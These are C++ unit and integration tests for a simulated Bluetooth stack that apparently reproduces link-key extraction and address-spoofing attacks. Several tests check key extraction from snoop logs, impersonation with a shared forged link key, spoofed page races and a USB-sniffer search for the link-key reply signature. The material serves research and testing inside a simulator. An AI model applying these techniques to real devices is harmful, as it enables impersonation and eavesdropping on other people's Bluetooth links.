  p.left->connect_channel(1, 0x1001, [&](std::optional<L2capChannel> ch) { ch2 = ch; });
  p.pump();
  ASSERT_TRUE(ch1 && ch2);
  EXPECT_NE(ch1->local_cid, ch2->local_cid);
  EXPECT_NE(ch1->remote_cid, ch2->remote_cid);
  EXPECT_EQ(p.left->channel_count(1), 2u);
}

}  // namespace
}  // namespace blap::host
