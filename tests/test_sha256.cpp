// SHA-256 validation against FIPS 180-4 / NIST example vectors.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/sha256.hpp"

namespace blap::crypto {
namespace {

Bytes ascii(const std::string& s) { return Bytes(s.begin(), s.end()); }

TEST(Sha256, EmptyString) {
  EXPECT_EQ(hex(Sha256::hash(Bytes{})),
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

TEST(Sha256, Abc) {
  EXPECT_EQ(hex(Sha256::hash(ascii("abc"))),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST(Sha256, TwoBlockMessage) {
  EXPECT_EQ(hex(Sha256::hash(ascii("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"))),
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
}

TEST(Sha256, MillionAs) {
  Sha256 h;
  const Bytes chunk(1000, static_cast<std::uint8_t>('a'));
  for (int i = 0; i < 1000; ++i) h.update(chunk);
  EXPECT_EQ(hex(h.finish()),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

TEST(Sha256, StreamingMatchesOneShot) {
  const Bytes msg = ascii("The quick brown fox jumps over the lazy dog");
  Sha256 streaming;
  // Feed byte by byte across block boundaries.
  for (std::uint8_t b : msg) streaming.update(BytesView(&b, 1));
  EXPECT_EQ(streaming.finish(), Sha256::hash(msg));
}

TEST(Sha256, ResetAllowsReuse) {
  Sha256 h;
  h.update(ascii("garbage"));
  h.reset();
  h.update(ascii("abc"));
  EXPECT_EQ(hex(h.finish()),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

// Padding boundary property: lengths around the 55/56/64-byte edges where the
// length field spills into a second padding block.
class Sha256Padding : public ::testing::TestWithParam<std::size_t> {};

TEST_P(Sha256Padding, StreamingEqualsOneShotAtBoundary) {
  Bytes msg(GetParam());
  for (std::size_t i = 0; i < msg.size(); ++i) msg[i] = static_cast<std::uint8_t>(i);
  Sha256 streaming;
  const std::size_t half = msg.size() / 2;
  streaming.update(BytesView(msg.data(), half));
  streaming.update(BytesView(msg.data() + half, msg.size() - half));
  EXPECT_EQ(streaming.finish(), Sha256::hash(msg));
}

INSTANTIATE_TEST_SUITE_P(Boundaries, Sha256Padding,
                         ::testing::Values(54, 55, 56, 57, 63, 64, 65, 119, 120, 128));

TEST(Sha256, DistinctInputsDistinctDigests) {
  EXPECT_NE(Sha256::hash(ascii("abc")), Sha256::hash(ascii("abd")));
}

}  // namespace
}  // namespace blap::crypto
