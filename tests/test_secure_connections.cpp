// Integration tests for Secure Connections: P-256 SSP pairing and the h4/h5
// secure authentication procedure, including the trial-and-fallback
// negotiation with pre-4.1 peers.
#include <gtest/gtest.h>

#include "core/air_analysis.hpp"
#include "core/device.hpp"

namespace blap::core {
namespace {

DeviceSpec sc_spec(const std::string& name, const std::string& addr, bool secure_connections) {
  DeviceSpec spec;
  spec.name = name;
  spec.address = *BdAddr::parse(addr);
  spec.controller.secure_connections = secure_connections;
  return spec;
}

hci::Status pair(Simulation& sim, Device& initiator, Device& responder) {
  hci::Status result = hci::Status::kPageTimeout;
  bool done = false;
  initiator.host().pair(responder.address(), [&](hci::Status status) {
    result = status;
    done = true;
  });
  for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
  EXPECT_TRUE(done) << "pairing never completed";
  return result;
}

int count_lmp(const std::vector<radio::SniffedFrame>& frames, controller::LmpOpcode opcode) {
  int count = 0;
  for (const auto& frame : frames) {
    auto pdu = controller::LmpPdu::from_air_frame(frame.frame);
    if (pdu && pdu->opcode == opcode) ++count;
  }
  return count;
}

TEST(SecureConnections, PairingDerivesP256KeyType) {
  Simulation sim(60);
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", true));
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  const auto* bond = a.host().security().bond_for(b.address());
  ASSERT_NE(bond, nullptr);
  EXPECT_EQ(bond->key_type, crypto::LinkKeyType::kAuthenticatedCombinationP256);
}

TEST(SecureConnections, ReconnectUsesSecureAuthentication) {
  Simulation sim(61);
  AirSniffer sniffer(sim.medium());
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", true));
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  a.host().disconnect(b.address());
  sim.run_for(2 * kSecond);
  sniffer.clear();
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  // SC auth: exactly one kAuRandSc/kSresSc exchange, and no legacy kAuRand.
  EXPECT_EQ(count_lmp(sniffer.frames(), controller::LmpOpcode::kAuRandSc), 1);
  EXPECT_EQ(count_lmp(sniffer.frames(), controller::LmpOpcode::kSresSc), 1);
  EXPECT_EQ(count_lmp(sniffer.frames(), controller::LmpOpcode::kAuRand), 0);
}

TEST(SecureConnections, FallsBackToE1ForLegacyPeer) {
  Simulation sim(62);
  AirSniffer sniffer(sim.medium());
  Device& sc = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& legacy = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", false));
  ASSERT_EQ(pair(sim, sc, legacy), hci::Status::kSuccess);
  sc.host().disconnect(legacy.address());
  sim.run_for(2 * kSecond);
  sniffer.clear();
  ASSERT_EQ(pair(sim, sc, legacy), hci::Status::kSuccess);
  // The SC side tried kAuRandSc, got rejected, fell back to legacy E1.
  EXPECT_GE(count_lmp(sniffer.frames(), controller::LmpOpcode::kAuRandSc), 1);
  EXPECT_GE(count_lmp(sniffer.frames(), controller::LmpOpcode::kAuRand), 1);
}

TEST(SecureConnections, EncryptionWorksAfterSecureAuth) {
  Simulation sim(63);
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", true));
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  // Encrypted echo: both sides must hold identical Kc (same extended ACO).
  bool echoed = false;
  a.host().send_echo(b.address(), [&] { echoed = true; });
  sim.run_for(kSecond);
  EXPECT_TRUE(echoed);
  const auto acls = a.host().acls();
  ASSERT_FALSE(acls.empty());
  EXPECT_TRUE(acls[0].encrypted);
}

TEST(SecureConnections, WrongKeyStillFailsUnderSc) {
  // Install mismatched fake bonds on both sides; SC auth must reject.
  Simulation sim(64);
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", true));

  host::BondRecord bond_a;
  bond_a.address = b.address();
  bond_a.link_key.fill(0x11);
  a.host().security().store_bond(bond_a);
  host::BondRecord bond_b;
  bond_b.address = a.address();
  bond_b.link_key.fill(0x22);  // different key
  b.host().security().store_bond(bond_b);

  EXPECT_EQ(pair(sim, a, b), hci::Status::kAuthenticationFailure);
  // Purge policy applies to SC failures too.
  EXPECT_FALSE(a.host().security().is_bonded(b.address()));
}

TEST(SecureConnections, MatchingFakeBondsAuthenticate) {
  // The impersonation property the extraction attack relies on holds under
  // SC as well: possession of the key IS the identity.
  Simulation sim(65);
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", true));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", true));
  crypto::LinkKey shared{};
  shared.fill(0x5C);
  host::BondRecord bond_a;
  bond_a.address = b.address();
  bond_a.link_key = shared;
  a.host().security().store_bond(bond_a);
  host::BondRecord bond_b;
  bond_b.address = a.address();
  bond_b.link_key = shared;
  b.host().security().store_bond(bond_b);

  EXPECT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  EXPECT_TRUE(a.host().acls()[0].authenticated);
}

TEST(SecureConnections, BothLegacyNeverUseScOpcodes) {
  Simulation sim(66);
  AirSniffer sniffer(sim.medium());
  Device& a = sim.add_device(sc_spec("phone", "00:00:00:00:00:01", false));
  Device& b = sim.add_device(sc_spec("headset", "00:00:00:00:00:02", false));
  ASSERT_EQ(pair(sim, a, b), hci::Status::kSuccess);
  EXPECT_EQ(count_lmp(sniffer.frames(), controller::LmpOpcode::kAuRandSc), 0);
  EXPECT_EQ(count_lmp(sniffer.frames(), controller::LmpOpcode::kSresSc), 0);
}

}  // namespace
}  // namespace blap::core
