// Property-based scenario fuzzing: random operation sequences over a small
// fleet of devices must preserve the stack's core invariants across seeds —
// no deadlocks, symmetric bonds, keys only where pairing succeeded.
#include <gtest/gtest.h>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

class ScenarioFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ScenarioFuzz, RandomOperationSequencePreservesInvariants) {
  const std::uint64_t seed = GetParam();
  Simulation sim(seed);
  Rng op_rng(seed ^ 0xF00D);

  std::vector<Device*> devices;
  devices.push_back(&sim.add_device(spec("d0", "00:00:00:00:02:00")));
  devices.push_back(&sim.add_device(spec("d1", "00:00:00:00:02:01")));
  devices.push_back(&sim.add_device(spec("d2", "00:00:00:00:02:02")));
  for (auto* d : devices) d->host().enable_snoop(true);

  int operations_completed = 0;
  for (int step = 0; step < 12; ++step) {
    Device& actor = *devices[op_rng.uniform(devices.size())];
    Device& peer = *devices[op_rng.uniform(devices.size())];
    if (&actor == &peer) continue;
    switch (op_rng.uniform(4)) {
      case 0: {
        bool done = false;
        actor.host().pair(peer.address(), [&](hci::Status) { done = true; });
        for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
        EXPECT_TRUE(done) << "pair deadlocked at step " << step << " seed " << seed;
        ++operations_completed;
        break;
      }
      case 1:
        actor.host().disconnect(peer.address());
        sim.run_for(kSecond);
        ++operations_completed;
        break;
      case 2: {
        bool done = false;
        actor.host().connect_pan(peer.address(), [&](bool) { done = true; });
        for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
        EXPECT_TRUE(done) << "pan deadlocked at step " << step << " seed " << seed;
        ++operations_completed;
        break;
      }
      case 3: {
        actor.host().send_echo(peer.address(), [] {});
        sim.run_for(kSecond);
        ++operations_completed;
        break;
      }
    }
  }
  EXPECT_GT(operations_completed, 0);
  sim.run_for(5 * kSecond);

  // Invariant 1: bonds are symmetric with matching keys.
  for (auto* a : devices) {
    for (auto* b : devices) {
      if (a == b) continue;
      const auto key_ab = a->host().security().link_key_for(b->address());
      const auto key_ba = b->host().security().link_key_for(a->address());
      if (key_ab && key_ba) {
        EXPECT_EQ(*key_ab, *key_ba);
      }
    }
  }

  // Invariant 2: every key in every snoop log corresponds to a real bond
  // either currently held or since replaced — i.e. the extractor never
  // fabricates keys that were never on the HCI.
  for (auto* d : devices) {
    for (const auto& extracted : extract_link_keys(d->host().snoop())) {
      // The key crossed d's HCI; at minimum its peer must be a fleet member.
      bool known_peer = false;
      for (auto* other : devices)
        if (other->address() == extracted.peer) known_peer = true;
      EXPECT_TRUE(known_peer);
    }
  }

  // Invariant 3: the scheduler quiesces (no runaway self-rescheduling) —
  // run_all() must terminate once idle timers fire.
  sim.run_for(60 * kSecond);
  EXPECT_LT(sim.scheduler().pending_events(), 50u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, ScenarioFuzz, ::testing::Range<std::uint64_t>(1, 21));

}  // namespace
}  // namespace blap::core

// NOTE: appended — heterogeneous-fleet fuzzing across stack generations.
namespace blap::core {
namespace {

class HeterogeneousFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(HeterogeneousFuzz, MixedGenerationFleetsInteroperate) {
  // Devices spanning three stack generations (legacy PIN, SSP/P-192,
  // Secure Connections/P-256) and both UI regimes must all pair with each
  // other through the negotiation fallbacks, with symmetric bonds.
  const std::uint64_t seed = GetParam();
  Simulation sim(seed);
  Rng cfg(seed ^ 0xD1CE);

  std::vector<Device*> fleet;
  for (int i = 0; i < 4; ++i) {
    char addr[18];
    std::snprintf(addr, sizeof(addr), "00:00:00:00:03:%02x", i);
    DeviceSpec s;
    s.name = "gen" + std::to_string(i);
    s.address = *BdAddr::parse(addr);
    const int generation = static_cast<int>(cfg.uniform(3));
    s.host.simple_pairing = generation != 0;           // gen 0: pre-2.1
    s.controller.secure_connections = generation == 2; // gen 2: BT 4.1+
    s.host.version = cfg.chance(0.5) ? host::BtVersion::kV4_2 : host::BtVersion::kV5_0;
    s.host.pin_code = "2580";  // shared fleet PIN for the legacy fallback
    fleet.push_back(&sim.add_device(s));
  }

  for (int round = 0; round < 4; ++round) {
    Device& a = *fleet[cfg.uniform(fleet.size())];
    Device& b = *fleet[cfg.uniform(fleet.size())];
    if (&a == &b) continue;
    bool done = false;
    hci::Status status{};
    a.host().pair(b.address(), [&](hci::Status s) {
      status = s;
      done = true;
    });
    for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
    ASSERT_TRUE(done) << "pairing deadlocked, seed " << seed << " round " << round;
    EXPECT_EQ(status, hci::Status::kSuccess)
        << a.spec().name << " x " << b.spec().name << " seed " << seed;
    if (status == hci::Status::kSuccess) {
      const auto key_ab = a.host().security().link_key_for(b.address());
      const auto key_ba = b.host().security().link_key_for(a.address());
      ASSERT_TRUE(key_ab && key_ba);
      EXPECT_EQ(*key_ab, *key_ba);
    }
    a.host().disconnect(b.address());
    sim.run_for(kSecond);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, HeterogeneousFuzz, ::testing::Range<std::uint64_t>(100, 115));

}  // namespace
}  // namespace blap::core
