// Unit tests for the radio medium: inquiry, paging, the BD_ADDR race.
#include <gtest/gtest.h>

#include "radio/radio_medium.hpp"

namespace blap::radio {
namespace {

/// Scriptable endpoint for driving the medium directly.
class FakeEndpoint : public RadioEndpoint {
 public:
  FakeEndpoint(BdAddr addr, SimTime scan_interval)
      : addr_(addr), scan_interval_(scan_interval) {}

  BdAddr radio_address() const override { return addr_; }
  ClassOfDevice radio_class_of_device() const override { return cod_; }
  std::string radio_name() const override { return "fake"; }
  bool inquiry_scan_enabled() const override { return inquiry_scan_; }
  bool page_scan_enabled() const override { return page_scan_; }
  SimTime sample_page_response_latency(Rng& rng) override {
    ++latency_samples;
    return fixed_latency_ ? *fixed_latency_ : 1 + rng.uniform(scan_interval_);
  }
  void on_link_established(LinkId link, const BdAddr& peer, bool initiator) override {
    links.push_back({link, peer, initiator});
  }
  void on_link_closed(LinkId link, std::uint8_t reason) override {
    closed.push_back({link, reason});
  }
  void on_air_frame(LinkId link, const Bytes& frame) override {
    frames.push_back({link, frame});
  }

  BdAddr addr_;
  ClassOfDevice cod_{0x240404};
  SimTime scan_interval_;
  std::optional<SimTime> fixed_latency_;
  bool inquiry_scan_ = true;
  bool page_scan_ = true;
  int latency_samples = 0;

  struct LinkEvent {
    LinkId id;
    BdAddr peer;
    bool initiator;
  };
  std::vector<LinkEvent> links;
  std::vector<std::pair<LinkId, std::uint8_t>> closed;
  std::vector<std::pair<LinkId, Bytes>> frames;
};

class RadioTest : public ::testing::Test {
 protected:
  RadioTest() : medium(sched, Rng(5)) {}
  Scheduler sched;
  RadioMedium medium;
};

TEST_F(RadioTest, InquiryCollectsScanningEndpoints) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  FakeEndpoint c(*BdAddr::parse("00:00:00:00:00:03"), kSecond);
  c.inquiry_scan_ = false;
  medium.attach(&a);
  medium.attach(&b);
  medium.attach(&c);

  std::vector<InquiryResponse> responses;
  bool complete = false;
  medium.start_inquiry(&a, 2 * kSecond,
                       [&](const InquiryResponse& r) { responses.push_back(r); },
                       [&] { complete = true; });
  sched.run_all();
  ASSERT_EQ(responses.size(), 1u);  // b responds; c is not scanning; a is requester
  EXPECT_EQ(responses[0].address, b.addr_);
  EXPECT_TRUE(complete);
}

TEST_F(RadioTest, PageConnectsToMatchingAddress) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);

  std::optional<LinkId> result;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { result = id; });
  sched.run_all();
  ASSERT_TRUE(result.has_value());
  ASSERT_EQ(a.links.size(), 1u);
  ASSERT_EQ(b.links.size(), 1u);
  EXPECT_TRUE(a.links[0].initiator);
  EXPECT_FALSE(b.links[0].initiator);
  EXPECT_EQ(a.links[0].peer, b.addr_);
  EXPECT_EQ(b.links[0].peer, a.addr_);
  EXPECT_TRUE(medium.link_alive(*result));
}

TEST_F(RadioTest, PageTimesOutWithNoCandidate) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  medium.attach(&a);
  std::optional<LinkId> result = LinkId{99};
  bool called = false;
  medium.page(&a, *BdAddr::parse("00:00:00:00:00:09"), 5 * kSecond,
              [&](std::optional<LinkId> id) {
                result = id;
                called = true;
              });
  sched.run_all();
  EXPECT_TRUE(called);
  EXPECT_FALSE(result.has_value());
  EXPECT_EQ(sched.now(), 5 * kSecond);  // full page timeout elapsed
}

TEST_F(RadioTest, PageTimesOutWhenScanDisabled) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  b.page_scan_ = false;
  medium.attach(&a);
  medium.attach(&b);
  bool connected = true;
  medium.page(&a, b.addr_, kSecond, [&](std::optional<LinkId> id) { connected = id.has_value(); });
  sched.run_all();
  EXPECT_FALSE(connected);
}

TEST_F(RadioTest, PageRaceLowestLatencyWins) {
  // Two endpoints own the same address — the spoofing situation. Fixed
  // latencies make the winner deterministic.
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint real(shared, kSecond);
  FakeEndpoint spoof(shared, kSecond);
  real.fixed_latency_ = 800;
  spoof.fixed_latency_ = 300;
  medium.attach(&pager);
  medium.attach(&real);
  medium.attach(&spoof);

  medium.page(&pager, shared, 5 * kSecond, nullptr);
  sched.run_all();
  EXPECT_EQ(real.links.size(), 0u);
  ASSERT_EQ(spoof.links.size(), 1u);
  EXPECT_EQ(real.latency_samples, 1);  // both candidates were sampled
  EXPECT_EQ(spoof.latency_samples, 1);
}

TEST_F(RadioTest, FramesFlowBothWays) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  LinkId link = 0;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = *id; });
  sched.run_all();

  medium.send_frame(link, &a, Bytes{1, 2, 3});
  medium.send_frame(link, &b, Bytes{4, 5});
  sched.run_all();
  ASSERT_EQ(b.frames.size(), 1u);
  EXPECT_EQ(b.frames[0].second, (Bytes{1, 2, 3}));
  ASSERT_EQ(a.frames.size(), 1u);
  EXPECT_EQ(a.frames[0].second, (Bytes{4, 5}));
}

TEST_F(RadioTest, CloseNotifiesPeerOnce) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  LinkId link = 0;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = *id; });
  sched.run_all();

  medium.close_link(link, &a, 0x13);
  medium.close_link(link, &a, 0x13);  // idempotent
  sched.run_all();
  ASSERT_EQ(b.closed.size(), 1u);
  EXPECT_EQ(b.closed[0].second, 0x13);
  EXPECT_FALSE(medium.link_alive(link));
  EXPECT_TRUE(a.closed.empty());  // the closer is not notified
}

TEST_F(RadioTest, FramesInFlightWhenLinkDiesAreDropped) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  LinkId link = 0;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = *id; });
  sched.run_all();

  medium.send_frame(link, &a, Bytes{9});
  medium.close_link(link, &a, 0x13);  // close before delivery
  sched.run_all();
  EXPECT_TRUE(b.frames.empty());
}

TEST_F(RadioTest, DetachClosesItsLinks) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  LinkId link = 0;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = *id; });
  sched.run_all();

  medium.detach(&a);
  sched.run_all();
  EXPECT_FALSE(medium.link_alive(link));
  ASSERT_EQ(b.closed.size(), 1u);
}

TEST_F(RadioTest, PeerOfResolvesBothSides) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  LinkId link = 0;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = *id; });
  sched.run_all();
  EXPECT_EQ(medium.peer_of(link, &a), &b);
  EXPECT_EQ(medium.peer_of(link, &b), &a);
  EXPECT_EQ(medium.peer_of(9999, &a), nullptr);
}

// Statistical property: with equal scan intervals the race is a coin flip.
TEST(RadioRace, EqualIntervalsGiveHalfHalf) {
  int wins = 0;
  const int trials = 400;
  for (int t = 0; t < trials; ++t) {
    Scheduler sched;
    RadioMedium medium(sched, Rng(static_cast<std::uint64_t>(t) + 1));
    const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
    FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
    FakeEndpoint x(shared, kSecond);
    FakeEndpoint y(shared, kSecond);
    medium.attach(&pager);
    medium.attach(&x);
    medium.attach(&y);
    medium.page(&pager, shared, 5 * kSecond, nullptr);
    sched.run_all();
    if (!x.links.empty()) ++wins;
  }
  EXPECT_NEAR(wins / static_cast<double>(trials), 0.5, 0.08);
}

}  // namespace
}  // namespace blap::radio
