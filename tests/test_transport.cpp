// Unit tests for the HCI transports, the USB sniffer and BinaryToHex.
#include <gtest/gtest.h>

#include "hci/commands.hpp"
#include "hci/events.hpp"
#include "transport/bin2hex.hpp"
#include "transport/uart_transport.hpp"
#include "transport/usb_sniffer.hpp"
#include "transport/usb_transport.hpp"

namespace blap::transport {
namespace {

const BdAddr kAddr = *BdAddr::parse("00:1b:7d:da:71:0a");

hci::HciPacket key_reply_packet() {
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddr;
  for (std::size_t i = 0; i < 16; ++i) cmd.link_key[i] = static_cast<std::uint8_t>(0x10 + i);
  return cmd.encode();
}

TEST(UartTransport, DeliversInBothDirections) {
  Scheduler sched;
  UartTransport transport(sched);
  std::vector<hci::HciPacket> to_controller, to_host;
  transport.set_controller_receiver([&](const hci::HciPacket& p) { to_controller.push_back(p); });
  transport.set_host_receiver([&](const hci::HciPacket& p) { to_host.push_back(p); });

  transport.send(hci::Direction::kHostToController, hci::make_command(hci::op::kReset, {}));
  transport.send(hci::Direction::kControllerToHost,
                 hci::make_event(hci::ev::kInquiryComplete, Bytes{0}));
  EXPECT_TRUE(to_controller.empty());  // asynchronous
  sched.run_all();
  ASSERT_EQ(to_controller.size(), 1u);
  ASSERT_EQ(to_host.size(), 1u);
  EXPECT_EQ(to_controller[0].command_opcode(), hci::op::kReset);
}

TEST(UartTransport, LatencyScalesWithSizeAndBaud) {
  Scheduler sched;
  UartTransport slow(sched, 115'200);
  SimTime delivered_at = 0;
  slow.set_controller_receiver([&](const hci::HciPacket&) { delivered_at = sched.now(); });
  slow.send(hci::Direction::kHostToController, hci::make_command(hci::op::kReset, {}));
  sched.run_all();
  // 4 wire bytes * 10 bits / 115200 baud ≈ 347 us.
  EXPECT_GE(delivered_at, 300u);
  EXPECT_LE(delivered_at, 400u);
}

TEST(Transport, TapsSeeBothDirections) {
  Scheduler sched;
  UartTransport transport(sched);
  int taps = 0;
  transport.add_tap([&](hci::Direction, const hci::HciPacket&) { ++taps; });
  transport.send(hci::Direction::kHostToController, hci::make_command(hci::op::kReset, {}));
  transport.send(hci::Direction::kControllerToHost,
                 hci::make_event(hci::ev::kInquiryComplete, Bytes{0}));
  EXPECT_EQ(taps, 2);  // taps fire at submission, not delivery
}

TEST(Transport, PayloadProtectionHidesKeyFromTapsOnly) {
  Scheduler sched;
  UartTransport transport(sched);
  Rng rng(1);
  transport.set_link_key_payload_protection(rng.bytes<16>());

  hci::HciPacket tapped;
  transport.add_tap([&](hci::Direction, const hci::HciPacket& p) { tapped = p; });
  hci::HciPacket delivered;
  transport.set_controller_receiver([&](const hci::HciPacket& p) { delivered = p; });

  const hci::HciPacket original = key_reply_packet();
  transport.send(hci::Direction::kHostToController, original);
  sched.run_all();

  // The endpoint sees the plaintext key; the tap sees ciphertext.
  EXPECT_EQ(delivered, original);
  EXPECT_NE(tapped, original);
  // Header and address survive; only the 16 key bytes changed.
  EXPECT_EQ(tapped.command_opcode(), hci::op::kLinkKeyRequestReply);
  auto tapped_cmd = hci::LinkKeyRequestReplyCmd::decode(*tapped.command_params());
  auto original_cmd = hci::LinkKeyRequestReplyCmd::decode(*original.command_params());
  ASSERT_TRUE(tapped_cmd && original_cmd);
  EXPECT_EQ(tapped_cmd->bdaddr, original_cmd->bdaddr);
  EXPECT_NE(tapped_cmd->link_key, original_cmd->link_key);
}

TEST(Transport, PayloadProtectionLeavesOtherPacketsAlone) {
  Scheduler sched;
  UartTransport transport(sched);
  Rng rng(1);
  transport.set_link_key_payload_protection(rng.bytes<16>());
  hci::HciPacket tapped;
  transport.add_tap([&](hci::Direction, const hci::HciPacket& p) { tapped = p; });
  const hci::HciPacket cmd = hci::make_command(hci::op::kReset, {});
  transport.send(hci::Direction::kHostToController, cmd);
  EXPECT_EQ(tapped, cmd);
}

TEST(Transport, PayloadProtectionCoversNotificationEvent) {
  Scheduler sched;
  UartTransport transport(sched);
  Rng rng(2);
  transport.set_link_key_payload_protection(rng.bytes<16>());
  hci::HciPacket tapped;
  transport.add_tap([&](hci::Direction, const hci::HciPacket& p) { tapped = p; });

  hci::LinkKeyNotificationEvt evt;
  evt.bdaddr = kAddr;
  evt.link_key.fill(0x42);
  transport.send(hci::Direction::kControllerToHost, evt.encode());
  auto tapped_evt = hci::LinkKeyNotificationEvt::decode(*tapped.event_params());
  ASSERT_TRUE(tapped_evt.has_value());
  EXPECT_NE(tapped_evt->link_key, evt.link_key);
}

TEST(UsbTransport, EndpointAssignment) {
  EXPECT_EQ(UsbTransport::endpoint_for(hci::PacketType::kCommand,
                                       hci::Direction::kHostToController),
            0x00);
  EXPECT_EQ(UsbTransport::endpoint_for(hci::PacketType::kEvent,
                                       hci::Direction::kControllerToHost),
            0x81);
  EXPECT_EQ(UsbTransport::endpoint_for(hci::PacketType::kAclData,
                                       hci::Direction::kHostToController),
            0x02);
  EXPECT_EQ(UsbTransport::endpoint_for(hci::PacketType::kAclData,
                                       hci::Direction::kControllerToHost),
            0x82);
}

TEST(UsbSniffer, CapturesFramesWithPayloads) {
  Scheduler sched;
  UsbTransport transport(sched);
  UsbSniffer sniffer(transport);
  transport.send(hci::Direction::kHostToController, key_reply_packet());
  ASSERT_EQ(sniffer.frame_count(), 1u);
  EXPECT_EQ(sniffer.frames()[0].endpoint, 0x00);
  // USB frames carry the packet body without the H4 type byte.
  EXPECT_EQ(sniffer.frames()[0].payload, key_reply_packet().payload);
}

TEST(UsbSniffer, RawStreamContainsOpcodePattern) {
  Scheduler sched;
  UsbTransport transport(sched);
  Rng padding(3);
  UsbSniffer sniffer(transport, &padding);
  transport.send(hci::Direction::kHostToController, key_reply_packet());
  const auto& stream = sniffer.raw_stream();
  // Search for 0b 04 16 — the paper's signature.
  bool found = false;
  for (std::size_t i = 0; i + 2 < stream.size(); ++i)
    if (stream[i] == 0x0b && stream[i + 1] == 0x04 && stream[i + 2] == 0x16) found = true;
  EXPECT_TRUE(found);
}

TEST(UsbSniffer, PaddingInsertsNulls) {
  Scheduler sched;
  UsbTransport transport(sched);
  Rng padding(3);
  UsbSniffer sniffer(transport, &padding);
  for (int i = 0; i < 20; ++i)
    transport.send(hci::Direction::kHostToController, hci::make_command(hci::op::kReset, {}));
  std::size_t payload_bytes = 20 * (hci::make_command(hci::op::kReset, {}).payload.size() + 10);
  EXPECT_GT(sniffer.raw_stream().size(), payload_bytes);  // NULL padding added
}

TEST(Bin2Hex, FormatsSpaceSeparatedLines) {
  const Bytes data = {0x0b, 0x04, 0x16, 0xff};
  EXPECT_EQ(bin_to_hex_ascii(data, 0), "0b 04 16 ff");
  EXPECT_EQ(bin_to_hex_ascii(data, 2), "0b 04\n16 ff");
}

